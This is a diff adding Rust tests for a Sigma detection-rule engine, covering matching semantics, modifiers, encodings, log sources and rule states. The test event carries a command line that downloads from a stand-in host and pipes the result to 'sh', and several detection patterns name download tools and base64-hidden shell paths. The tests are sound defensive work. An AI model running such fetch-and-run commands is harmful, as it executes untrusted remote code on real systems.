@@ -1,1 +1,353 @@
-//! Semantics of Sigma, one test per row.
+//! What Sigma means, one test per row of the table in `docs` of the specification and of our own
+//! decisions where it is silent.
+
+use std::sync::Arc;
+
+use super::{super::Loader, *};
+use crate::{
+    detect::{RuleSet, State as Memo},
+    event::json,
+    rule::{Source, yaml},
+};
+
+fn rule(logsource: &str, detection: &str) -> String {
+    format!("title: T\nid: s\nlogsource: {logsource}\ndetection:\n{}\n", indent(detection))
+}
+
+fn indent(text: &str) -> String {
+    text.lines().map(|line| format!("  {line}\n")).collect()
+}
+
+fn load(text: &str) -> (Vec<Loaded>, Diagnostics) {
+    Loader::new(Fieldmap::builtin()).read(&[Source::new("rule.yml", text)])
+}
+
+const PROCESS: &str = "{category: process_creation, product: linux}";
+const FILE: &str = "{category: file_event, product: linux}";
+const NETWORK: &str = "{category: network_connection, product: linux}";
+
+/// Whether a rule of a log source matches an event given as JSON members beside `event.action`.
+fn check_source(logsource: &str, detection: &str, event: &str, expected: bool) {
+    let (rules, problems) = load(&rule(logsource, detection));
+    assert!(!problems.has_errors(), "{problems}");
+    let (event, errors) = json::read(event.as_bytes()).expect("an event");
+    assert_eq!(errors, []);
+    let mut found = false;
+    RuleSet::new(rules).evaluate(&Arc::new(event), &mut Memo::default(), &mut |_| found = true);
+    assert_eq!(found, expected, "{detection}");
+}
+
+/// One search and its outcome for a start of `/usr/bin/Curl`.
+fn check(search: &str, expected: bool) {
+    const EVENT: &str = r#"{"event":{"action":"exec"},"user":{"name":"root","id":"0"},"process":{"pid":4711,"executable":"/usr/bin/Curl","command_line":"Curl -s http://a.b/x?y=*&z=1 | sh","args":["Curl","-s"],"working_directory":"/tmp","parent":{"executable":"/usr/bin/curl","command_line":"/usr/bin/Curl"},"stdin":{"peer":{"ip":"10.1.2.3"}}}}"#;
+    check_source(PROCESS, &format!("sel:\n{}\ncondition: sel", indent(search)), EVENT, expected);
+}
+
+#[test]
+fn strings_compare_without_case_and_whole_unless_modified() {
+    check("Image: /USR/bin/curl", true);
+    check("Image: /usr/bin", false);
+    check("Image|cased: /USR/bin/curl", false);
+    check("Image|cased: /usr/bin/Curl", true);
+    check("Image|endswith: /curl", true);
+    check("Image|endswith|cased: /curl", false);
+    check("Image|startswith: /USR/", true);
+    check("CommandLine|contains: HTTP://", true);
+    check("CommandLine|contains: [ftp, wget, curl]", true);
+    check("CommandLine|contains: [ftp, wget]", false);
+    check("CommandLine|contains|all: [curl, ' sh']", true);
+    check("CommandLine|contains|all: [curl, bash]", false);
+}
+
+#[test]
+fn wildcards_and_their_escapes() {
+    check("Image: '/usr/*/c?rl'", true);
+    check("Image: '*/curl'", true);
+    check("Image: '/usr*'", true);
+    check("Image: '*bin*'", true);
+    check("Image: '*'", true);
+    check("ParentUser: '*'", false);
+    check(r"CommandLine|contains: 'x\?y=\*'", true);
+    check(r"CommandLine|contains: 'x\?\*'", false);
+    check("CommandLine|contains: 'x?y'", true);
+    check("Image: '/usr/bin/cur?l'", false);
+}
+
+#[test]
+fn an_absent_field_makes_its_item_false_and_its_negation_true() {
+    let event = r#"{"event":{"action":"exec"},"process":{"executable":"/bin/sh"}}"#;
+    let check = |condition: &str, expected| {
+        let detection = format!(
+            "img: {{Image: /bin/sh}}\nuser: {{User: root}}\nno_user: {{User: null}}\nhas: {{User|exists: true}}\nlacks: {{User|exists: false}}\nother: {{User|neq: root}}\nempty: {{User: ''}}\ncondition: {condition}"
+        );
+        check_source(PROCESS, &detection, event, expected);
+    };
+    check("user", false);
+    check("img and not user", true);
+    check("no_user", true);
+    check("has", false);
+    check("lacks", true);
+    check("other", true);
+    check("empty", false);
+}
+
+#[test]
+fn null_exists_and_neq_on_a_field_that_is_there() {
+    check("User: null", false);
+    check("User: [null, root]", true);
+    check("User|exists: true", true);
+    check("User|exists: false", false);
+    check("User|neq: root", false);
+    check("User|neq: [eve, bob]", true);
+    check("User|neq: [eve, root]", false);
+}
+
+#[test]
+fn numbers_and_numeric_strings_are_equal() {
+    check("ProcessId: 4711", true);
+    check("ProcessId: '4711'", true);
+    check("ProcessId|gt: 4710", true);
+    check("ProcessId|gte: '4712'", false);
+    check("ProcessId|lt: 4712", true);
+    check("ProcessId|lte: 4710", false);
+    check("ProcessId|startswith: '47'", true);
+    check("ProcessId|contains: 71", true);
+    check("UserId: 0", true);
+    check("ProcessId: [1, 2]", false);
+}
+
+#[test]
+fn any_element_of_an_array_is_enough() {
+    check("process.args: -s", true);
+    check("process.args|contains|all: [cu, s]", true);
+    check("process.args: -x", false);
+}
+
+#[test]
+fn regular_expressions_have_case_and_their_flags() {
+    check(r"CommandLine|re: 'https?://\w+\.b'", true);
+    check("CommandLine|re: 'CURL'", false);
+    check("CommandLine|re|i: 'CURL'", true);
+    check("CommandLine|re|i|m|s: '^cURL.*SH$'", true);
+    check("CommandLine|re|all: ['Curl', 'wget']", false);
+}
+
+#[test]
+fn networks() {
+    check("process.stdin.peer.ip|cidr: 10.0.0.0/8", true);
+    check("process.stdin.peer.ip|cidr: [192.168.0.0/16, 10.1.2.3]", true);
+    check("process.stdin.peer.ip|cidr: 192.168.0.0/16", false);
+    check("process.stdin.peer.ip: '10.1.2.3'", true);
+    check("process.stdin.peer.ip|startswith: '10.1.'", true);
+    check("process.stdin.peer.ip: '::ffff:10.1.2.3'", true);
+}
+
+#[test]
+fn fields_compare_with_fields() {
+    check("Image|fieldref: ParentImage", true);
+    check("Image|fieldref|cased: ParentImage", false);
+    check("Image|fieldref|cased: ParentCommandLine", true);
+    check("Image|fieldref|startswith: CurrentDirectory", false);
+    check("ParentCommandLine|fieldref|endswith: Image", true);
+    check("Image|fieldref: ParentUser", false);
+}
+
+#[test]
+fn maps_are_and_lists_are_or() {
+    check("Image|endswith: /curl\nUser: root", true);
+    check("Image|endswith: /curl\nUser: eve", false);
+    check("- Image|endswith: /wget\n- User: root", true);
+    check("- Image|endswith: /wget\n- User: eve", false);
+    check("- - Image|endswith: /wget\n- - User: root", true);
+    check("Image|endswith: [[/wget], [/curl]]", true);
+}
+
+#[test]
+fn keywords_are_anywhere_in_the_event() {
+    check("- wget\n- HTTP://A", true);
+    check("- wget\n- lynx", false);
+    check("'|all': [Curl, root]", true);
+    check("'|all': [curl, eve]", false);
+    check("'|re': '^/usr/bin/C'", true);
+    check("- 'http*sh'", true);
+    check("- 4711", true);
+}
+
+#[test]
+fn encodings() {
+    let check = |search: &str, line: &str, expected| {
+        let event = format!(r#"{{"event":{{"action":"exec"}},"process":{{"command_line":"{line}"}}}}"#);
+        check_source(PROCESS, &format!("sel:\n  {search}\ncondition: sel"), &event, expected);
+    };
+    check("CommandLine|base64offset|contains: /bin/bash", "echo Y2QgL2Jpbi9iYXNo", true);
+    check("CommandLine|base64offset|contains: /bin/bash", "echo Y2QgL2Jpbi9kYXNo", false);
+    check("CommandLine|wide|base64offset|contains: http", "aAB0AHQAcAA=", true);
+    check("CommandLine|base64: ping", "cGluZw==", true);
+    check("CommandLine|windash|contains: ' -f '", "x /f y", true);
+    check("CommandLine|windash|contains: ' -f '", "x \u{2013}f y", true);
+    check("CommandLine|windash|contains: ' -f '", "x +f y", false);
+}
+
+#[test]
+fn unicode_folds_simply() {
+    let event = r#"{"event":{"action":"exec"},"process":{"command_line":"ÄRGER ſtraße"}}"#;
+    check_source(PROCESS, "sel: {CommandLine|contains: ärger s}\ncondition: sel", event, true);
+    check_source(PROCESS, "sel: {CommandLine|contains: strasse}\ncondition: sel", event, false);
+}
+
+#[test]
+fn condition_lists_are_or_and_patterns_choose_searches() {
+    let event = r#"{"event":{"action":"exec"},"process":{"executable":"/bin/sh"}}"#;
+    let check = |condition: &str, expected| {
+        let detection = format!(
+            "sel_a: {{Image: /bin/sh}}\nsel_b: {{User: root}}\nfilter_x: {{User: eve}}\ncondition: {condition}"
+        );
+        check_source(PROCESS, &detection, event, expected);
+    };
+    check("[sel_b, sel_a]", true);
+    check("1 of sel_*", true);
+    check("all of sel_*", false);
+    check("1 of sel_* and not 1 of filter_*", true);
+    check("2 of them", false);
+}
+
+#[test]
+fn log_sources_choose_kinds() {
+    let any_image = "sel: {Image|exists: true}\ncondition: sel";
+    let event = |action: &str, more: &str| {
+        format!(r#"{{"event":{{"action":"{action}"}},"process":{{"executable":"/x"}}{more}}}"#)
+    };
+    check_source(PROCESS, any_image, &event("exec", ""), true);
+    check_source(PROCESS, any_image, &event("fork", ""), false);
+    check_source("{category: process_creation}", any_image, &event("exec", ""), true);
+    check_source(FILE, any_image, &event("file_open", r#","file":{"access":["read","write"]}"#), true);
+    check_source(FILE, any_image, &event("file_open", r#","file":{"access":["read"]}"#), false);
+    check_source(NETWORK, any_image, &event("accept", ""), true);
+    check_source(NETWORK, any_image, &event("listen", ""), false);
+    let initiated = |value: &str| format!("sel: {{Initiated: {value}}}\ncondition: sel");
+    check_source(NETWORK, &initiated("'true'"), &event("connect", ""), true);
+    check_source(NETWORK, &initiated("true"), &event("accept", ""), false);
+    check_source(NETWORK, &initiated("false"), &event("accept", ""), true);
+}
+
+/// State and reason of a rule that has no problem.
+fn check_state(text: &str, state: &str, reason: Option<&str>) {
+    let (rules, problems) = load(text);
+    assert!(!problems.has_errors(), "{problems}");
+    let [rule] = rules.as_slice() else { panic!("one rule: {rules:?}") };
+    assert_eq!((rule.state.word(), rule.state.reason().as_deref()), (state, reason), "{text}");
+}
+
+#[test]
+fn what_cannot_match_says_why() {
+    let process = |detection: &str| rule(PROCESS, detection);
+    check_state(&process("sel: {Image: x}\ncondition: sel"), "active", None);
+    check_state(
+        &process("sel: {Hashes: x}\ncondition: sel"),
+        "dormant",
+        Some("no event carries `Hashes`: files are not hashed yet"),
+    );
+    check_state(
+        &process("a: {Hashes: x}\nb: {Image: x}\ncondition: a or b"),
+        "degraded",
+        Some("no event carries `Hashes`: files are not hashed yet"),
+    );
+    check_state(
+        &process("sel: {Strange: x}\ncondition: sel"),
+        "dormant",
+        Some("no event carries `Strange`: the field map does not have it"),
+    );
+    check_state(
+        &rule("{product: windows, category: process_creation}", "sel: {Image: x}\ncondition: sel"),
+        "dormant",
+        Some("it is for Windows"),
+    );
+    check_state(
+        &rule("{product: zeek, service: dns}", "sel: {query: x}\ncondition: sel"),
+        "dormant",
+        Some("no event of ours belongs to product `zeek`, service `dns`"),
+    );
+    check_state(
+        &rule("{product: linux}", "k: [a]\ncondition: k"),
+        "dormant",
+        Some("no event of ours is what this log holds"),
+    );
+    check_state(
+        &process("sel: {CommandLine|re: '(?=x)'}\ncondition: sel"),
+        "rejected",
+        Some("the regular expression `(?=x)`: look-around, including look-ahead and look-behind, is not supported"),
+    );
+    check_state(
+        &process("sel: {CommandLine|expand: '%x%'}\ncondition: sel"),
+        "rejected",
+        Some("the modifier `expand` is not supported yet by this version"),
+    );
+    check_state(
+        &process("sel: {Image: x}\ncondition: sel | count() > 5"),
+        "rejected",
+        Some("aggregations are not supported"),
+    );
+    check_state(
+        "title: T\nid: c\ncorrelation: {type: event_count}\n",
+        "rejected",
+        Some("correlations are not supported yet by this version"),
+    );
+    check_state(
+        "title: T\nid: f\nlogsource: {product: linux}\nfilter: {rules: any}\n",
+        "rejected",
+        Some("filters are not supported yet by this version"),
+    );
+}
+
+#[test]
+fn what_the_author_wrote_stays_with_the_alert() {
+    let text = format!(
+        "author: A. Uthor\nlicense: DRL-1.1\nreferences: [https://example.org/]\nlevel: critical\ntags: [attack.t1059]\ncustom: 1\n{}",
+        rule(PROCESS, "sel: {Image: x}\ncondition: sel")
+    );
+    let (rules, problems) = load(&text);
+    assert!(problems.sorted().is_empty(), "{problems}");
+    let rule = &rules[0];
+    assert_eq!(rule.author.as_deref(), Some("A. Uthor"));
+    assert_eq!(rule.license.as_deref(), Some("DRL-1.1"));
+    assert_eq!(rule.references, ["https://example.org/"]);
+    assert_eq!(rule.severity, Severity::Critical);
+    assert_eq!(rule.ruleset, "sigma");
+}
+
+#[test]
+fn several_documents_in_one_file_are_several_rules() {
+    let one = "title: T\nlogsource: {category: process_creation}\ndetection: {sel: {Image: x}, condition: sel}\n";
+    let (rules, problems) = load(&format!("{one}---\n{one}---\n"));
+    assert!(!problems.has_errors(), "{problems}");
+    let ids: Vec<_> = rules.iter().map(|rule| rule.id.as_str()).collect();
+    assert_eq!(ids, ["sigma-rule", "sigma-rule-1"]);
+}
+
+proptest::proptest! {
+    #[test]
+    fn no_detection_panics(
+        keys in proptest::collection::vec("[A-Za-z|]{0,12}", 1..4),
+        modifiers in proptest::collection::vec(
+            proptest::sample::select(vec![
+                "contains", "all", "re", "i", "base64", "base64offset", "wide", "windash", "cidr", "gt", "exists", "fieldref",
+                "neq", "cased", "startswith", "endswith", "utf16", "expand", "nonsense",
+            ]),
+            0..4,
+        ),
+        value in "\\PC{0,20}",
+        condition in "[a-z_*() 0-9]{0,30}",
+    ) {
+        let quoted = serde_json::to_string(&value).expect("JSON");
+        let modifiers: String = modifiers.iter().map(|name| format!("|{name}")).collect();
+        let items: String =
+            keys.iter().enumerate().map(|(index, key)| format!("  s{index}: {{\"{key}{modifiers}\": [{quoted}, 1, null]}}\n")).collect();
+        let text = format!("title: T\nlogsource: {PROCESS}\ndetection:\n{items}  condition: \"s0 or 1 of s* or {condition}\"\n");
+        let source = Source::new("rule.yml", text);
+        let mut problems = Diagnostics::default();
+        for document in yaml::parse(&source, &mut problems) {
+            drop(read(&document, 0, &Fieldmap::builtin(), &mut problems));
+        }
+        proptest::prop_assert!(problems.render(crate::rule::Colour::Plain).len() < 1_000_000);
+    }
+}
